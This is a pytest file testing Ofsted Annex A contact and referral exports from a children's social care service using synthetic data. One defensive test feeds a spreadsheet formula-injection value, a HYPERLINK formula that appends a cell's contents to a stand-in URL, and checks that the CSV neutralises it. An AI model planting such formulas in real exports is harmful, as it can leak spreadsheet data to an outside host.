"""Ofsted Annex A Lists 1 (contacts) and 3 (referrals): exact columns and labels, windows of London
dates, what counts as a referral, the 12-month count, the allocation shown, roles, audit, CSV and
JSON. History is recorded through the API at simulated times (`shared.types.simulated_now`), as
`frontdoor seed` records its year. Synthetic data only."""

from __future__ import annotations

import csv
import io
import uuid
from datetime import timedelta
from typing import Any

import httpx
import pytest
from fdhelpers import (
    FrontDoor,
    at,
    child_body,
    contact_at,
    decision_body,
    iso,
    now_is,
    post_at,
    refer_at,
    referral_body,
    referral_closed,
)
from sqlalchemy import event

from services.referrals.annex_a.models import CONTACT_COLUMNS, REFERRAL_COLUMNS
from shared.codes import Ethnicity, ReferralSource, Sex, annex_a_label

CONTACT_HEADER = "Child Unique ID,Gender,Ethnicity,Date of Birth,Age,Date of Contact,Contact Source"
REFERRAL_HEADER = (
    "Child Unique ID,Gender,Ethnicity,Date of Birth,Age,Date of Referral,Referral Source,Referral NFA?,"
    "Number of Referrals in Last 12 Months,Allocated Team,Allocated Worker"
)
JSON = {"Accept": "application/json"}


async def export(fd: FrontDoor, path: str, headers: dict | None = None, **params: str) -> httpx.Response:
    return await fd.client.get(path, params=params, headers={**fd.mgr, **(headers or {})})


def csv_lines(r: httpx.Response) -> list[list[str]]:
    assert r.status_code == 200, r.text
    assert r.headers["content-type"] == "text/csv; charset=utf-8"
    return list(csv.reader(io.StringIO(r.text)))


def by_contact_order(contacts: list[dict]) -> list[dict]:
    """The lists' order: receipt, then contact id (as the database orders UUIDs: by their bytes)."""
    return sorted(contacts, key=lambda c: (at(c["received_at"]), uuid.UUID(c["id"])))


# --- List 1 ----------------------------------------------------------------------------------------


async def test_list_1_is_one_row_per_child_per_contact_in_annex_a_form(fd: FrontDoor) -> None:
    ada = child_body(given_name="Ada", date_of_birth="2015-03-04", sex="F", ethnicity="WBRI")
    ben = child_body(given_name="Ben", date_of_birth="2019-06-10", sex="M", ethnicity="MWBC")
    contacts = await contact_at(fd, at("2025-06-10T08:30:00Z"), new_children=[ada, ben], source="6")
    assert len(contacts) == 2 and contacts[0]["contact_group_id"] == contacts[1]["contact_group_id"]
    ids = {c["child_id"]: c for c in contacts}
    ada_id = next(i for i, c in ids.items() if c == contacts[0])

    r = await export(fd, "/annex-a/contacts", **{"from": "2025-06-01", "to": "2025-06-30"})
    expected = {
        ada_id: [ada_id, "b) Female", "a) WBRI", "04/03/2015", "10", "10/06/2025", "q) 6: Police"],
    }
    ben_id = contacts[1]["child_id"]
    # Ben is 6 on his birthday, the day of the contact.
    expected[ben_id] = [ben_id, "a) Male", "f) MWBC", "10/06/2019", "6", "10/06/2025", "q) 6: Police"]
    lines = csv_lines(r)
    assert r.text.split("\r\n", 1)[0] == CONTACT_HEADER  # RFC 4180: records end with CRLF
    assert lines[0] == list(CONTACT_COLUMNS)
    assert lines[1:] == [expected[c["child_id"]] for c in by_contact_order(contacts)]
    assert r.headers["content-disposition"] == (
        'attachment; filename="annex-a-list-1-contacts-2025-06-01-to-2025-06-30.csv"'
    )
    assert r.headers["cache-control"] == "no-store"

    j = await export(fd, "/annex-a/contacts", JSON, **{"from": "2025-06-01", "to": "2025-06-30"})
    assert j.status_code == 200 and j.headers["content-type"] == "application/json"
    body = j.json()
    assert (body["from_date"], body["to_date"], body["columns"]) == (
        "2025-06-01",
        "2025-06-30",
        list(CONTACT_COLUMNS),
    )
    assert [row["contact_id"] for row in body["rows"]] == [c["id"] for c in by_contact_order(contacts)]
    ben_row = next(row for row in body["rows"] if row["child_id"] == ben_id)
    assert ben_row == {
        "child_id": ben_id,
        "gender": "a) Male",
        "ethnicity": "f) MWBC",
        "date_of_birth": "2019-06-10",
        "age": 6,
        "date_of_contact": "2025-06-10",
        "contact_source": "q) 6: Police",
        "contact_id": ids[ben_id]["id"],
    }


async def test_list_1_labels_every_sex_ethnicity_and_source_code(fd: FrontDoor) -> None:
    sexes = list(Sex)
    children = [
        child_body(given_name=f"Child{i}", sex=sexes[i % len(sexes)].value, ethnicity=e.value)
        for i, e in enumerate(Ethnicity)
    ]
    start = at("2025-03-03T10:00:00Z")
    created = await contact_at(fd, start, new_children=children, source="1A")
    codes = {
        c["child_id"]: (Sex(body["sex"]), Ethnicity(body["ethnicity"]))
        for c, body in zip(created, children, strict=True)
    }
    one = created[0]["child_id"]
    sources: dict[str, ReferralSource] = {}
    for i, source in enumerate(ReferralSource, start=1):
        (contact,) = await contact_at(fd, start + timedelta(minutes=i), [one], source=source.value)
        sources[contact["id"]] = source

    r = await export(fd, "/annex-a/contacts", JSON, **{"from": "2025-03-03", "to": "2025-03-03"})
    rows = r.json()["rows"]
    assert len(rows) == len(Ethnicity) + len(ReferralSource)
    for row in rows:
        sex, ethnicity = codes[row["child_id"]]
        assert (row["gender"], row["ethnicity"]) == (annex_a_label(sex), annex_a_label(ethnicity))
        if row["contact_id"] in sources:
            assert row["contact_source"] == annex_a_label(sources[row["contact_id"]])
    assert {row["gender"] for row in rows} == {annex_a_label(s) for s in Sex}
    assert {row["ethnicity"] for row in rows} == {annex_a_label(e) for e in Ethnicity}
    assert {row["contact_source"] for row in rows} == {annex_a_label(s) for s in ReferralSource}
    # The CSV carries the same labels.
    lines = csv_lines(await export(fd, "/annex-a/contacts", **{"from": "2025-03-03", "to": "2025-03-03"}))
    assert {line[6] for line in lines[1:]} == {annex_a_label(s) for s in ReferralSource}


async def test_list_1_window_is_london_dates_in_summer_time(fd: FrontDoor) -> None:
    child = (await contact_at(fd, at("2025-05-31T12:00:00Z"), new_children=[child_body()]))[0]["child_id"]
    # In British Summer Time London midnight is 23:00 UTC the day before.
    times = ["2025-05-31T22:59:59Z", "2025-05-31T23:00:00Z", "2025-06-30T22:59:59Z", "2025-06-30T23:00:00Z"]
    received = [(await contact_at(fd, at(t), [child]))[0] for t in times]
    lines = csv_lines(await export(fd, "/annex-a/contacts", **{"from": "2025-06-01", "to": "2025-06-30"}))
    assert [line[5] for line in lines[1:]] == ["01/06/2025", "30/06/2025"]
    body = (await export(fd, "/annex-a/contacts", JSON, **{"from": "2025-06-01", "to": "2025-06-30"})).json()
    assert [row["contact_id"] for row in body["rows"]] == [received[1]["id"], received[2]["id"]]
    # The day before and the day after hold the others.
    before = (
        await export(fd, "/annex-a/contacts", JSON, **{"from": "2025-05-31", "to": "2025-05-31"})
    ).json()
    assert [row["contact_id"] for row in before["rows"]][-1] == received[0]["id"]
    after = (await export(fd, "/annex-a/contacts", JSON, **{"from": "2025-07-01", "to": "2025-07-01"})).json()
    assert [row["contact_id"] for row in after["rows"]] == [received[3]["id"]]


async def test_list_1_age_is_at_the_contact_and_an_unborn_child_has_none(fd: FrontDoor) -> None:
    leap = child_body(given_name="Leap", date_of_birth="2016-02-29")
    (first,) = await contact_at(fd, at("2025-02-28T12:00:00Z"), new_children=[leap])
    await contact_at(fd, at("2025-03-01T12:00:00Z"), [first["child_id"]])
    unborn = child_body(given_name="Baby", sex="U", ethnicity="NOBT")
    del unborn["date_of_birth"]
    unborn["expected_date_of_birth"] = "2025-05-20"
    (baby,) = await contact_at(fd, at("2025-03-01T13:00:00Z"), new_children=[unborn])

    lines = csv_lines(await export(fd, "/annex-a/contacts", **{"from": "2025-02-28", "to": "2025-03-01"}))
    # Born on 29 February: 8 the day before 1 March 2025, 9 on it; the child unborn has no date of birth
    # and no age.
    assert [line[3:6] for line in lines[1:]] == [
        ["29/02/2016", "8", "28/02/2025"],
        ["29/02/2016", "9", "01/03/2025"],
        ["", "", "01/03/2025"],
    ]
    assert lines[3][:3] == [baby["child_id"], "c) Not stated/recorded", "t) NOBT"]
    body = (await export(fd, "/annex-a/contacts", JSON, **{"from": "2025-03-01", "to": "2025-03-01"})).json()
    assert [(row["date_of_birth"], row["age"]) for row in body["rows"]] == [("2016-02-29", 9), (None, None)]

    # Born since, and the record corrected: the contact came before the birth, so still no age.
    child = await fd.client.get(f"/children/{baby['child_id']}", headers=fd.pract)
    born = {"date_of_birth": "2025-05-18", "expected_date_of_birth": None, "reason": "Synthetic: born."}
    headers = {**fd.pract, "If-Match": child.headers["etag"]}
    with now_is(at("2025-05-20T09:00:00Z")):
        r = await fd.client.patch(f"/children/{baby['child_id']}", json=born, headers=headers)
    assert r.status_code == 200, r.text
    lines = csv_lines(await export(fd, "/annex-a/contacts", **{"from": "2025-03-01", "to": "2025-03-01"}))
    assert lines[2][3:6] == ["18/05/2025", "", "01/03/2025"]


async def test_the_window_defaults_to_six_months_to_today_in_london(fd: FrontDoor) -> None:
    # 23:30 UTC on 30 June 2025 is 1 July in London.
    with now_is(at("2025-06-30T23:30:00Z")):
        r = await export(fd, "/annex-a/contacts", JSON)
        only_to = await export(fd, "/annex-a/referrals", JSON, to="2025-08-31")
    assert (r.json()["from_date"], r.json()["to_date"]) == ("2025-01-01", "2025-07-01")
    # Six months before 31 August is the last day of February.
    assert (only_to.json()["from_date"], only_to.json()["to_date"]) == ("2025-02-28", "2025-08-31")
    empty = await export(fd, "/annex-a/referrals", **{"from": "2025-01-01", "to": "2025-12-31"})
    assert empty.text == REFERRAL_HEADER + "\r\n"


@pytest.mark.parametrize("path", ["/annex-a/contacts", "/annex-a/referrals"])
@pytest.mark.parametrize(
    ("params", "field"),
    [
        ({"from": "2025-07-01", "to": "2025-06-30"}, "from"),  # inverted
        ({"from": "2025-01-01", "to": "2026-01-01"}, "to"),  # a year and a day
        ({"from": "2024-03-01", "to": "2025-03-01"}, "to"),
        ({"from": "2010-01-01"}, "to"),  # `to` defaults to today: more than a year
        ({"from": "20250101", "to": "2025-06-30"}, "from"),  # not ISO 8601
        ({"from": "2025-01-01", "to": "2025-02-30"}, "to"),  # no such date
        ({"from": "1999-12-31", "to": "2000-06-30"}, "from"),
        ({"from": "2099-12-01", "to": "2100-01-01"}, "to"),
    ],
)
async def test_a_bad_window_is_422_naming_the_field(
    fd: FrontDoor, path: str, params: dict[str, str], field: str
) -> None:
    r = await export(fd, path, **params)
    assert r.status_code == 422, r.text
    assert r.headers["content-type"].startswith("application/problem+json")
    assert [p["name"] for p in r.json()["invalid-params"]] == [field]


@pytest.mark.parametrize("path", ["/annex-a/contacts", "/annex-a/referrals"])
async def test_a_whole_year_is_the_longest_window(fd: FrontDoor, path: str) -> None:
    for window in ({"from": "2025-01-01", "to": "2025-12-31"}, {"from": "2024-03-01", "to": "2025-02-28"}):
        assert (await export(fd, path, **window)).status_code == 200


@pytest.mark.parametrize("path", ["/annex-a/contacts", "/annex-a/referrals"])
async def test_only_managers_and_admins_export_and_each_child_is_audited(fd: FrontDoor, path: str) -> None:
    (contact,) = await contact_at(fd, at("2025-06-10T08:30:00Z"), new_children=[child_body()])
    await refer_at(fd, contact, at("2025-06-10T09:00:00Z"))
    window = {"from": "2025-06-01", "to": "2025-06-30"}
    for headers in (fd.pract, fd.partner, fd.analyst):
        r = await fd.client.get(path, params=window, headers=headers)
        assert r.status_code == 403, r.text
    for headers in (fd.mgr, fd.admin):
        r = await fd.client.get(path, params=window, headers=headers)
        assert r.status_code == 200, r.text
        assert contact["child_id"] in r.text
    audit = await fd.client.get("/audit", params={"child_id": contact["child_id"]}, headers=fd.admin)
    resource = "annex_a_" + path.rsplit("/", 1)[1]
    exports = [e for e in audit.json()["items"] if e["action"] == "export"]
    assert {(e["resource"], e["resource_id"], e["actor"]) for e in exports} == {
        (resource, "2025-06-01/2025-06-30", "m1"),
        (resource, "2025-06-01/2025-06-30", "a1"),
    }
    # And the export itself, whichever children it held.
    everything = await fd.client.get("/audit", params={"actor": "m1", "limit": 500}, headers=fd.admin)
    assert any(
        e["resource"] == resource and e["child_id"] is None and e["action"] == "export"
        for e in everything.json()["items"]
    )


@pytest.mark.parametrize("path", ["/annex-a/contacts", "/annex-a/referrals"])
async def test_an_accept_allowing_neither_csv_nor_json_is_406(fd: FrontDoor, path: str) -> None:
    """A list is CSV (the default) or JSON: asked for neither, it is refused with a 406 problem naming
    the Accept header (CSV was sent, which the client had said it cannot read), before the list is
    read or its export audited, as a report is."""
    (contact,) = await contact_at(fd, at("2025-06-10T08:30:00Z"), new_children=[child_body()])
    await refer_at(fd, contact, at("2025-06-10T09:00:00Z"))
    window = {"from": "2025-06-01", "to": "2025-06-30"}
    for accept in (
        "application/xml",
        "text/html",
        "text/csv;q=0, application/json;q=0",
        "*/*;q=0",
        "text/csv;q=0",  # CSV refused and JSON not asked for
    ):
        r = await export(fd, path, {"Accept": accept}, **window)
        assert r.status_code == 406, (accept, r.status_code)
        assert r.headers["content-type"] == "application/problem+json"
        assert [(p["name"], p["location"]) for p in r.json()["invalid-params"]] == [("Accept", "header")]
    audit = await fd.client.get("/audit", params={"actor": "m1", "limit": 500}, headers=fd.admin)
    assert [e for e in audit.json()["items"] if e["action"] == "export"] == []
    for accept in ("*/*", "text/*", "application/xml, */*;q=0.1", "application/json;q=0.5, text/csv"):
        r = await export(fd, path, {"Accept": accept}, **window)
        assert contact["child_id"] in csv_lines(r)[1], accept
        assert r.headers["vary"] == "Accept"
    r = await export(fd, path, {"Accept": "text/csv;q=0, application/json"}, **window)
    assert r.status_code == 200 and r.headers["content-type"] == "application/json", r.text


# --- List 3 ----------------------------------------------------------------------------------------


async def _teams(fd: FrontDoor) -> None:
    await fd.team("FD-WEST")
    await fd.team("AS-WEST", service_type="assessment")


async def test_list_3_counts_referrals_and_shows_the_allocation_at_the_referral(fd: FrontDoor) -> None:
    await _teams(fd)
    window = {"from": "2025-07-01", "to": "2025-12-31"}

    # Child A: four referrals; the window holds the last, received on Sun 14 September 2025.
    a_id = (await fd.child(date_of_birth="2012-05-20"))["id"]
    # 22:30 UTC on 13 September 2024 is 23:30 on the 13th in London: more than a year before the 14th.
    await referral_closed(fd, a_id, at("2024-09-13T22:30:00Z"))
    # 23:30 UTC is 00:30 on the 14th in London: within the year.
    await referral_closed(fd, a_id, at("2024-09-13T23:30:00Z"))
    await referral_closed(fd, a_id, at("2025-03-01T10:00:00Z"))
    (a3,) = await contact_at(fd, at("2025-09-14T10:00:00Z"), [a_id], source="3E")
    journey = f"/journeys/{a3['journey_id']}"
    body = {"team_id": "FD-WEST", "worker_id": "w-fd", "effective_at": "2025-09-14T10:05:00Z"}
    await post_at(fd, at("2025-09-14T10:05:00Z"), f"{journey}/allocation", body, fd.mgr)
    a3_referral = await refer_at(fd, a3, at("2025-09-14T10:30:00Z"))
    body = {
        "team_id": "AS-WEST",
        "worker_id": "w-as",
        "reason": "TSPROC",
        "effective_at": "2025-09-14T11:00:00Z",
    }
    await post_at(fd, at("2025-09-14T11:00:00Z"), f"{journey}/transfers", body, fd.mgr)

    # Child B: an NFA contact, then a referral still awaiting authorisation on the same journey,
    # allocated to a team without a worker only after the referral.
    (b1,) = await contact_at(fd, at("2025-08-01T09:00:00Z"), new_children=[child_body(given_name="Bea")])
    await post_at(
        fd,
        at("2025-08-01T09:10:00Z"),
        f"/contacts/{b1['id']}/decisions",
        decision_body(decided_at="2025-08-01T09:10:00Z"),
        fd.pract,
    )
    (b2,) = await contact_at(fd, at("2025-08-02T09:00:00Z"), [b1["child_id"]], source="1C")
    b2_referral = await refer_at(fd, b2, at("2025-08-02T09:30:00Z"), authorise=False)
    assert b2_referral["status"] == "awaiting_authorisation"
    body = {"team_id": "AS-WEST", "effective_at": "2025-08-03T09:00:00Z"}
    await post_at(fd, at("2025-08-03T09:00:00Z"), f"/journeys/{b2['journey_id']}/allocation", body, fd.mgr)

    # Child C: an authorised referral superseded by a manager (not a referral), then on the same journey
    # an NFA superseded by a referral (one); never allocated.
    (c1,) = await contact_at(fd, at("2025-10-01T09:00:00Z"), new_children=[child_body(given_name="Cal")])
    c1_referral = await refer_at(fd, c1, at("2025-10-01T09:30:00Z"))
    step_down = {
        "decision": decision_body(decided_at="2025-10-01T10:00:00Z"),
        "reason": "management_review",
        "note": "Synthetic: below the threshold after all.",
    }
    await post_at(
        fd, at("2025-10-01T10:00:00Z"), f"/decisions/{c1_referral['id']}/supersede", step_down, fd.mgr
    )
    (c2,) = await contact_at(fd, at("2025-10-02T09:00:00Z"), [c1["child_id"]], source="5D")
    nfa = await post_at(
        fd,
        at("2025-10-02T09:10:00Z"),
        f"/contacts/{c2['id']}/decisions",
        decision_body(decided_at="2025-10-02T09:10:00Z"),
        fd.pract,
    )
    step_up = {
        "decision": referral_body(decided_at="2025-10-02T09:30:00Z"),
        "reason": "new_information",
        "note": "Synthetic: new information.",
    }
    c2_referral = await post_at(
        fd, at("2025-10-02T09:30:00Z"), f"/decisions/{nfa['id']}/supersede", step_up, fd.pract
    )

    # Child D: received at 23:30 UTC on 30 June 2025, 1 July in London: inside the window.
    (d1,) = await contact_at(fd, at("2025-06-30T23:30:00Z"), new_children=[child_body(given_name="Dot")])
    d1_referral = await refer_at(fd, d1, at("2025-06-30T23:40:00Z"))
    # And one received at 22:30 UTC, still 30 June in London: outside.
    (e1,) = await contact_at(fd, at("2025-06-30T22:30:00Z"), new_children=[child_body(given_name="Eve")])
    await refer_at(fd, e1, at("2025-06-30T22:40:00Z"))

    lines = csv_lines(await export(fd, "/annex-a/referrals", **window))
    assert lines[0] == list(REFERRAL_COLUMNS)
    assert [line[:1] + line[5:] for line in lines[1:]] == [
        [d1["child_id"], "01/07/2025", "e) 2A: Schools", "b) No", "0", "", ""],
        [b1["child_id"], "02/08/2025", "c) 1C: Individual", "b) No", "0", "Team AS-WEST", ""],
        [a_id, "14/09/2025", "k) 3E: Health services", "b) No", "2", "Team FD-WEST", "w-fd"],
        [c1["child_id"], "02/10/2025", "p1) 5D: LA services", "b) No", "0", "", ""],
    ]
    # Child A was 13 on the day of the referral.
    assert lines[3][1:5] == ["b) Female", "a) WBRI", "20/05/2012", "13"]

    rows = (await export(fd, "/annex-a/referrals", JSON, **window)).json()["rows"]
    assert [(row["contact_id"], row["decision_id"]) for row in rows] == [
        (d1["id"], d1_referral["id"]),
        (b2["id"], b2_referral["id"]),
        (a3["id"], a3_referral["id"]),
        (c2["id"], c2_referral["id"]),
    ]
    assert rows[2]["referrals_in_last_12_months"] == 2
    assert (rows[2]["allocated_team"], rows[2]["allocated_worker"]) == ("Team FD-WEST", "w-fd")
    assert rows[0]["allocated_team"] is None and rows[0]["referral_nfa"] == "b) No"

    # Over a window holding all of child A's referrals, each counts those of the year before it.
    everything = (
        await export(fd, "/annex-a/referrals", JSON, **{"from": "2024-09-13", "to": "2025-09-12"})
    ).json()
    counts = [row["referrals_in_last_12_months"] for row in everything["rows"] if row["child_id"] == a_id]
    assert counts == [0, 1, 2]


async def test_a_worker_id_a_spreadsheet_would_run_is_written_as_text(fd: FrontDoor) -> None:
    """Worker ids are identity-provider subjects, which may begin with `-` or `+` (base64url or
    base64 text): not refused, but the CSV cell starts with `'` so a spreadsheet shows it as text
    and runs no formula. The JSON gives the id as it is."""
    await fd.team("FD-WEST")
    workers = ['=HYPERLINK("https://example.invalid/?"&A2,"Open")', "-w1", "+w2", "@w3", "\uff1dw5", "w4"]
    for i, worker in enumerate(workers):
        received = at(f"2025-09-0{i + 1}T10:00:00Z")
        (contact,) = await contact_at(fd, received, new_children=[child_body(given_name="Ada")])
        body = {"team_id": "FD-WEST", "worker_id": worker, "effective_at": iso(received)}
        await post_at(fd, received, f"/journeys/{contact['journey_id']}/allocation", body, fd.mgr)
        await refer_at(fd, contact, received + timedelta(minutes=5))
    window = {"from": "2025-09-01", "to": "2025-09-30"}
    lines = csv_lines(await export(fd, "/annex-a/referrals", **window))
    assert [line[-1] for line in lines[1:]] == ["'" + w for w in workers[:-1]] + ["w4"]
    assert [line[-2] for line in lines[1:]] == ["Team FD-WEST"] * len(workers)
    rows = (await export(fd, "/annex-a/referrals", JSON, **window)).json()["rows"]
    assert [row["allocated_worker"] for row in rows] == workers


async def test_the_lists_are_documented_in_openapi(fd: FrontDoor) -> None:
    doc = fd.client.app.openapi()  # type: ignore[attr-defined]
    schemas = doc["components"]["schemas"]
    for path, body, row, columns in (
        ("/annex-a/contacts", "AnnexAContacts", "AnnexAContact", CONTACT_COLUMNS),
        ("/annex-a/referrals", "AnnexAReferrals", "AnnexAReferral", REFERRAL_COLUMNS),
    ):
        op = doc["paths"][path]["get"]
        ok = op["responses"]["200"]
        assert ok["content"]["application/json"]["schema"] == {"$ref": f"#/components/schemas/{body}"}
        assert ok["content"]["text/csv"]["example"] == ",".join(columns) + "\r\n"  # as the CSV is sent
        assert {"Content-Disposition", "Cache-Control", "Vary"} <= set(ok["headers"])
        for status in ("401", "403", "406", "422"):
            assert "application/problem+json" in op["responses"][status]["content"], (path, status)
        assert [(p["name"], p["in"], p["required"]) for p in op["parameters"]] == [
            ("from", "query", False),
            ("to", "query", False),
        ]
        assert schemas[row]["properties"]["gender"]["enum"] == [annex_a_label(s) for s in Sex]
        assert schemas[row]["properties"]["ethnicity"]["enum"] == [annex_a_label(e) for e in Ethnicity]
        source = "contact_source" if row == "AnnexAContact" else "referral_source"
        assert schemas[row]["properties"][source]["enum"] == [annex_a_label(s) for s in ReferralSource]
        assert all(spec.get("description") for spec in schemas[row]["properties"].values()), row


async def test_each_list_takes_the_same_statements_however_many_rows(fd: FrontDoor) -> None:
    """No statement per row (no N+1): one referral or five, contacts and allocations alike."""
    await _teams(fd)
    window = {"from": "2025-06-01", "to": "2025-06-30"}
    engine = fd.client.app.state.db.engine.sync_engine  # type: ignore[attr-defined]
    statements: list[str] = []

    def seen(_conn: Any, _cursor: Any, statement: str, *_args: Any) -> None:
        statements.append(statement)

    async def count(path: str) -> int:
        statements.clear()
        event.listen(engine, "before_cursor_execute", seen)
        try:
            r = await export(fd, path, **window)
        finally:
            event.remove(engine, "before_cursor_execute", seen)
        assert r.status_code == 200, r.text
        return len(statements)

    async def referral(n: int) -> None:
        when = at("2025-06-10T09:00:00Z") + timedelta(hours=n)
        (contact,) = await contact_at(fd, when, new_children=[child_body(given_name=f"Kid{n}")])
        body = {"team_id": "FD-WEST", "worker_id": f"w{n}", "effective_at": iso(when + timedelta(minutes=1))}
        await post_at(
            fd, when + timedelta(minutes=1), f"/journeys/{contact['journey_id']}/allocation", body, fd.mgr
        )
        await refer_at(fd, contact, when + timedelta(minutes=5))

    await referral(0)
    one = {path: await count(path) for path in ("/annex-a/contacts", "/annex-a/referrals")}
    for n in range(1, 5):
        await referral(n)
    five = {path: await count(path) for path in ("/annex-a/contacts", "/annex-a/referrals")}
    assert five == one
    rows = (await export(fd, "/annex-a/referrals", JSON, **window)).json()["rows"]
    assert [row["allocated_worker"] for row in rows] == [f"w{n}" for n in range(5)]
